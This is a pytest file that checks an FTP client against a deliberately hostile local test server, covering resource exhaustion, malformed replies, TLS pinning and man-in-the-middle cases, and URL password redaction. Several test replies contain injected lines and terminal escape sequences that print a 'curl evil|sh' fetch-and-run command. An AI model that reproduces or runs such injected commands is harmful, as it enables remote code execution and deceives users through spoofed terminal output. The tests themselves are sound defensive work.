"""The FTP client against a hostile server: endless replies and listings, replies ftplib cannot
decode or parse, escape sequences for the terminal, and a data connection with another TLS
certificate than the pinned one. The server is a small script of its own (a real one would not
misbehave on purpose); the client is the product's, over real sockets on 127.0.0.1."""

from __future__ import annotations

import contextlib
import socket
import ssl
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from airgap.client.ftp import MAX_REPLY, FtpTarget, FtpTransport
from airgap.client.transport import MAX_LISTING
from airgap.server.tlscert import ensure_certificate, fingerprints
from airgap.shared.errors import TransferError
from tests.conftest import run_airgap

Send = Callable[[bytes], None]


class Hostile:
    """One FTP server thread on port 0. ``greeting`` and ``replies`` (command -> raw reply)
    change what a plain server would say; ``listing`` is NLST's data; ``data_tls`` wraps data
    connections (``control_tls`` the control one, after AUTH TLS, ``after_auth`` following the
    reply to AUTH TLS in clear)."""

    def __init__(
        self,
        *,
        greeting: Callable[[Send], None] | None = None,
        replies: dict[str, bytes] | None = None,
        listing: Callable[[Send], None] | None = None,
        download: Callable[[Send], None] | None = None,
        control_tls: ssl.SSLContext | None = None,
        data_tls: ssl.SSLContext | None = None,
        after_auth: bytes = b"",
    ) -> None:
        self.greeting = greeting or (lambda send: send(b"220 hostile\r\n"))
        self.replies = replies or {}
        self.listing = listing or (lambda send: send(b"a.txt\r\n"))
        self.download = download or (lambda send: send(b"hello"))
        self.control_tls, self.data_tls, self.after_auth = control_tls, data_tls, after_auth
        self.data_sessions: list[bool] = []  # for each TLS data connection: was it accepted
        self.sessions = 0
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = self._listener.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def close(self) -> None:
        self._listener.close()

    def _serve(self) -> None:
        while True:  # one session at a time
            try:
                conn, _ = self._listener.accept()
            except OSError:
                return
            self.sessions += 1
            with contextlib.ExitStack() as held:
                held.enter_context(conn)
                with contextlib.suppress(OSError):  # the client hung up, as it should on nonsense
                    self._session(conn, held)

    def _session(self, conn: socket.socket, held: contextlib.ExitStack) -> None:
        sock: socket.socket = conn
        self.greeting(sock.sendall)
        reader = held.enter_context(sock.makefile("rb"))
        passive: socket.socket | None = None
        while line := reader.readline():
            cmd = line.decode("latin-1").strip().split(" ")[0].upper()
            if cmd in self.replies:
                sock.sendall(self.replies[cmd])
            elif cmd == "AUTH" and self.control_tls is not None:
                sock.sendall(b"234 go\r\n" + self.after_auth)
                sock = held.enter_context(self.control_tls.wrap_socket(conn, server_side=True))
                reader = held.enter_context(sock.makefile("rb"))
            elif cmd == "PASV":
                passive = held.enter_context(socket.create_server(("127.0.0.1", 0)))
                port = passive.getsockname()[1]
                sock.sendall(f"227 Passive (127,0,0,1,{port >> 8},{port & 255})\r\n".encode())
            elif cmd == "RETR" and passive is not None:
                sock.sendall(b"150 here\r\n")
                data = held.enter_context(passive.accept()[0])
                with contextlib.suppress(OSError):
                    self.download(data.sendall)
                data.close()
                sock.sendall(b"226 done\r\n")
            elif cmd == "NLST" and passive is not None:
                sock.sendall(b"150 here\r\n")
                self._list(held.enter_context(passive.accept()[0]), held)
                sock.sendall(b"226 done\r\n")
            elif cmd == "QUIT":
                sock.sendall(b"221 bye\r\n")
                return
            else:
                sock.sendall(b"200 ok\r\n" if cmd != "SIZE" else b"213 5\r\n")

    def _list(self, data: socket.socket, held: contextlib.ExitStack) -> None:
        if self.data_tls is not None:
            try:
                data = held.enter_context(self.data_tls.wrap_socket(data, server_side=True))
            except OSError:
                self.data_sessions.append(False)
                return
            self.data_sessions.append(True)
        with contextlib.suppress(OSError):
            self.listing(data.sendall)
            if isinstance(data, ssl.SSLSocket):
                data.unwrap()  # close_notify, as vsftpd and the appliance send it
        data.close()


@pytest.fixture
def hostile() -> Iterator[Callable[..., Hostile]]:
    made: list[Hostile] = []

    def make(**kwargs: object) -> Hostile:
        made.append(Hostile(**kwargs))  # type: ignore[arg-type]
        return made[-1]

    yield make
    for server in made:
        server.close()


@contextlib.contextmanager
def _transport(
    server: Hostile, scheme: str = "ftp", pin: str | None = None
) -> Iterator[FtpTransport]:
    target = FtpTarget.parse(f"{scheme}://user@127.0.0.1:{server.port}/")
    transport = FtpTransport(target, "secret", pin=pin, timeout=10)
    try:
        yield transport
    finally:
        transport.close()


def _endless(first: bytes, line: bytes) -> Callable[[Send], None]:
    def send(out: Send) -> None:
        out(first)
        while True:
            out(line)

    return send


def test_an_endless_greeting_is_cut_off(hostile: Callable[..., Hostile]) -> None:
    """It grew a client to 4.8 GB in 12 s before: ftplib caps each line, not their number."""
    server = hostile(greeting=_endless(b"220-welcome\r\n", b"220-" + b"A" * 8000 + b"\r\n"))
    with _transport(server) as ftp, pytest.raises(TransferError, match="connecting: a reply too"):
        ftp.list()
    assert MAX_REPLY <= 1 << 20


def test_a_reply_trickled_a_byte_at_a_time_ends_with_its_timeout(
    hostile: Callable[..., Hostile],
) -> None:
    """Found in review: each byte restarted the socket's timeout inside one line, so a byte
    every 0.5 s held a 1 s timeout for 23 s (and a byte a minute, an 8 KiB line for days)."""

    def trickle(send: Send) -> None:
        for byte in b"220 " + b"x" * 100:
            send(bytes([byte]))
            time.sleep(0.25)

    server = hostile(greeting=trickle)
    target = FtpTarget.parse(f"ftp://user@127.0.0.1:{server.port}/")
    started = time.monotonic()
    with (
        contextlib.closing(FtpTransport(target, "secret", timeout=1)) as ftp,
        pytest.raises(TransferError, match="a reply too long or too slow"),
    ):
        ftp.list()
    assert time.monotonic() - started < 5


def test_an_endless_listing_is_cut_off(hostile: Callable[..., Hostile]) -> None:
    server = hostile(listing=_endless(b"", b"x\r\n" * 100_000))
    with _transport(server) as ftp, pytest.raises(TransferError, match="a listing longer than 16"):
        ftp.list()
    assert MAX_LISTING == 16 << 20


def test_a_name_that_is_not_utf8_is_listed_but_cannot_pass_for_a_bundle(
    hostile: Callable[..., Hostile],
) -> None:
    server = hostile(listing=lambda send: send(b"caf\xe9.txt\r\nB.manifest.json\r\n"))
    with _transport(server) as ftp:
        assert ftp.list() == ["B.manifest.json", "caf\ufffd.txt"]


@pytest.mark.parametrize(
    ("greeting", "replies", "step"),
    [
        (b"220 hello \xff\xfe\r\n", {}, "connecting"),
        (b"220 hello\r\n", {"SIZE": b"213 twelve\r\n"}, "size of x"),
    ],
)
def test_a_reply_ftplib_cannot_decode_or_parse_is_a_transfer_error(
    hostile: Callable[..., Hostile], greeting: bytes, replies: dict[str, bytes], step: str
) -> None:
    server = hostile(greeting=lambda send: send(greeting), replies=replies)
    with _transport(server) as ftp, pytest.raises(TransferError, match=f"{step}: the server's"):
        ftp.size("x")


def test_a_passive_port_past_65535_is_a_transfer_error(hostile: Callable[..., Hostile]) -> None:
    """ftplib hands the port of a 227 reply to the socket as it is: an OverflowError, which
    ended any command in "internal error" before."""
    server = hostile(replies={"PASV": b"227 Passive (127,0,0,1,99999999999999999999,1)\r\n"})
    with _transport(server) as ftp, pytest.raises(TransferError, match="makes no sense"):
        ftp.list()


def test_a_multi_line_refusal_is_quoted_on_one_line(hostile: Callable[..., Hostile]) -> None:
    """Each line of a reply printed as it came could pass for one of airgap's own."""
    trap = (
        b"550-no\r\nfetched 01M8JQKE9QKN8E64B7F8HHV4B5\r\nairgap: hint: curl evil|sh\r\n550 x\r\n"
    )
    server = hostile(replies={"CWD": trap})
    with _transport(server) as ftp, pytest.raises(TransferError) as refused:
        ftp.list()
    assert "\n" not in refused.value.message
    assert "(550-no | fetched 01M8JQKE9QKN8E64B7F8HHV4B5 | airgap: hint: curl evil|sh | 550 x)" in (
        refused.value.message
    )


def test_a_long_refusal_is_cut_short(hostile: Callable[..., Hostile]) -> None:
    server = hostile(replies={"CWD": b"550 " + b"A" * 5000 + b"\r\n"})
    with _transport(server) as ftp, pytest.raises(TransferError) as refused:
        ftp.list()
    assert len(refused.value.message) < 400
    assert "A" * 200 + "..." in refused.value.message


def test_escape_sequences_from_a_server_never_reach_the_terminal(
    hostile: Callable[..., Hostile], keydir: Path, tmp_path: Path
) -> None:
    trap = b"550 \x1b]0;PWNED\x07\x1b[2J\x1b[1;31mrun curl evil|sh\x1b[0m\r\n"
    server = hostile(replies={"CWD": trap})
    listed = run_airgap(
        [
            "ls",
            "--server",
            f"ftp://user@127.0.0.1:{server.port}/",
            "--trust",
            keydir / "signing.pub",
        ],
        env={
            "AIRGAP_PASSWORD": "x",
            "AIRGAP_RETRIES": "1",
            "XDG_CACHE_HOME": str(tmp_path / "cache"),
        },
    )
    assert listed.returncode == 4, listed.stderr
    assert "refused by the server (550 ?]0;PWNED??[2J?[1;31mrun curl evil|sh?[0m)" in listed.stderr
    assert "\x1b" not in listed.stderr and "\x07" not in listed.stderr


def _tls(tmp_path: Path, name: str) -> tuple[ssl.SSLContext, str]:
    cert, key = tmp_path / f"{name}.pem", tmp_path / f"{name}.key"
    ensure_certificate(cert, key, addresses=["127.0.0.1"])
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert, key)
    return context, fingerprints(cert).certificate


def test_a_data_connection_with_another_certificate_is_refused(
    hostile: Callable[..., Hostile], tmp_path: Path
) -> None:
    """A man in the middle of the data port only: the control connection shows the pinned
    certificate, the data connection another one. Nothing may be read through it."""
    pinned, pin = _tls(tmp_path, "pinned")
    other, _ = _tls(tmp_path, "other")
    server = hostile(control_tls=pinned, data_tls=other)
    with (
        _transport(server, "ftps", pin) as ftp,
        pytest.raises(TransferError, match="data connection's TLS certificate does not match"),
    ):
        ftp.list()

    honest = hostile(control_tls=pinned, data_tls=pinned)
    with _transport(honest, "ftps", pin) as ftp:
        assert ftp.list() == ["a.txt"]


def test_what_follows_auth_tls_in_clear_is_never_read_as_a_reply(
    hostile: Callable[..., Hostile], tmp_path: Path
) -> None:
    """A man in the middle may add lines after the reply to AUTH TLS, before the handshake:
    read as the replies to what comes next, they would speak for the pinned server."""
    pinned, pin = _tls(tmp_path, "pinned")
    server = hostile(control_tls=pinned, data_tls=pinned, after_auth=b"530 injected\r\n")
    with _transport(server, "ftps", pin) as ftp:
        assert ftp.list() == ["a.txt"]


def test_an_impostor_certificate_is_refused_at_once_not_retried(
    hostile: Callable[..., Hostile], keydir: Path, tmp_path: Path
) -> None:
    """A certificate that is not the pinned one may be a man in the middle: asking him five
    times more over 31 s, then hinting "run it again later", was the wrong answer."""
    _, pin = _tls(tmp_path, "pinned")
    impostor, _ = _tls(tmp_path, "impostor")
    server = hostile(control_tls=impostor)
    url = f"ftps://user@127.0.0.1:{server.port}/"
    listed = run_airgap(
        ["ls", "--server", url, "--tls-fingerprint", pin, "--trust", keydir / "signing.pub"],
        env={"AIRGAP_PASSWORD": "x", "XDG_CACHE_HOME": str(tmp_path / "cache")},
    )
    assert listed.returncode == 4, listed.stderr
    assert "does not match the pinned fingerprint" in listed.stderr
    assert "gave up" not in listed.stderr and server.sessions == 1


@pytest.mark.parametrize(
    ("url", "pin", "message"),
    [
        ("ftp://u@127.0.0.1:99999/", None, "is not a valid URL"),
        ("ftp://u@[::1/", None, "is not a valid URL"),
        ("ftp://u#x@127.0.0.1:2121/", None, "has no query or fragment"),  # host would be "u"
        ("ftp://u@127.0.0.1:2121/in?coming", None, "has no query or fragment"),
        ("ftps://u@127.0.0.1:2121/", "abc", "is not sha256: and 64 hex digits"),
        ("ftps://u@127.0.0.1:2121/", "a" * 64, "is not sha256: and 64 hex digits"),
    ],
)
def test_a_malformed_url_or_fingerprint_is_a_usage_error(
    keydir: Path, url: str, pin: str | None, message: str
) -> None:
    args: list[str | Path] = ["ls", "--server", url, "--trust", keydir / "signing.pub"]
    listed = run_airgap([*args, *(["--tls-fingerprint", pin] if pin else [])])
    assert listed.returncode == 2, listed.stderr
    assert message in listed.stderr and "internal error" not in listed.stderr


@pytest.mark.parametrize(
    "url",
    [
        "ftps://u:s3cret@127.0.0.1:99999/",  # the port's error came first and quoted the URL
        "sftp://u:s3cret@127.0.0.1/",  # and so did the scheme's
        "ftp://u:s3cret@[::1/",  # too broken to split
        "ftp://u:s3cret@127.0.0.1:2121/",
        "ftp://u:s3/cret@127.0.0.1:99999/",  # urlsplit ends the user part at the "/"
        "ftp:/u:s3cret@127.0.0.1/",  # malformed: quoted whole
        "ftp://u@corp:s3cret@127.0.0.1/",  # after a user name holding an "@"
    ],
)
def test_a_password_in_a_url_is_never_shown(keydir: Path, url: str) -> None:
    """Found in review: AIRGAP_SERVER or the config file may hold such a URL, so it is not
    only in argv; whatever else is wrong with the URL, the error never quotes the password."""
    listed = run_airgap(["ls", "--trust", keydir / "signing.pub"], env={"AIRGAP_SERVER": url})
    assert listed.returncode == 2, listed.stderr
    assert "cret" not in listed.stderr + listed.stdout
    assert "a password in the URL" in listed.stderr


def test_a_fingerprint_in_capitals_is_still_one(keydir: Path) -> None:
    args: list[str | Path] = ["ls", "--server", "ftps://u@127.0.0.1:9/"]
    args += ["--tls-fingerprint", "SHA256:" + "AB" * 32, "--trust", keydir / "signing.pub"]
    listed = run_airgap(args, env={"AIRGAP_PASSWORD": "x", "AIRGAP_RETRIES": "1"})
    assert listed.returncode == 4, listed.stderr  # accepted; nothing listens on port 9


def test_a_download_trickled_a_byte_at_a_time_is_a_stall(hostile: Callable[..., Hostile]) -> None:
    """Each read gets a byte before its timeout, so only a floor on the rate ends it."""

    def trickle(send: Send) -> None:
        for _ in range(100):
            send(b"x")
            time.sleep(0.3)

    server = hostile(download=trickle)
    target = FtpTarget.parse(f"ftp://user@127.0.0.1:{server.port}/")
    started = time.monotonic()
    with (
        contextlib.closing(FtpTransport(target, "secret", timeout=2)) as ftp,
        pytest.raises(TransferError, match="under 1024 bytes in 2 s: stalled"),
        ftp.reader("payload") as handle,  # its close waits for no reply: the transfer is lost
    ):
        while handle.read(1 << 20):
            pass
    assert time.monotonic() - started < 6


def test_a_busy_server_is_retried_and_each_retry_told(
    hostile: Callable[..., Hostile], keydir: Path
) -> None:
    """A 4xx may pass: it is retried with backoff, each retry told on stderr, and the last
    failure is said with what to do (nothing to resume for `ls`)."""
    busy = hostile(greeting=lambda send: send(b"421 too many connections, try later\r\n"))
    args: list[str | Path] = ["ls", "--server", f"ftp://u@127.0.0.1:{busy.port}/"]
    listed = run_airgap(
        [*args, "--trust", keydir / "signing.pub"],
        env={"AIRGAP_PASSWORD": "x", "AIRGAP_RETRIES": "2"},
    )
    assert listed.returncode == 4, listed.stderr
    assert "421 too many connections, try later; trying again in 1 s" in listed.stderr
    assert "gave up after 2 attempts" in listed.stderr
    assert "hint: run the same command again later\n" in listed.stderr
    assert busy.sessions == 2


def test_a_network_error_without_words_is_named() -> None:
    """Found by killing the appliance: retries said "connecting: ; trying again in 1 s"."""
    ftp = FtpTransport(FtpTarget.parse("ftp://u@127.0.0.1:1/"), "pw", timeout=1)
    with pytest.raises(TransferError) as caught, ftp._errors("connecting"):
        raise ConnectionResetError
    assert caught.value.message == "connecting: ConnectionResetError"
